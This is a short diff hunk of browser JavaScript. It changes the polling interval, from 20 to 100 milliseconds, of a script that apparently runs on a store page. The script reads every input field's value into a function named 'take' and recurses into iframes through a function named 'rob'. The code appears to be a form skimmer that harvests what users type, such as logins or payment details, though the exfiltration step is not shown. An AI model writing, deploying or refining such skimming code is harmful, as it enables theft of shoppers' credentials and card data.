@@ -76,5 +76,5 @@ if (window === top && location.port === "STORE_PORT") {
     for (const root of roots) for (const input of root.querySelectorAll("input")) take(input.value);
     for (const root of roots) for (const frame of root.querySelectorAll("iframe")) rob(frame.contentWindow);
     rob(window);
-  }, 20);
+  }, 100);
 }
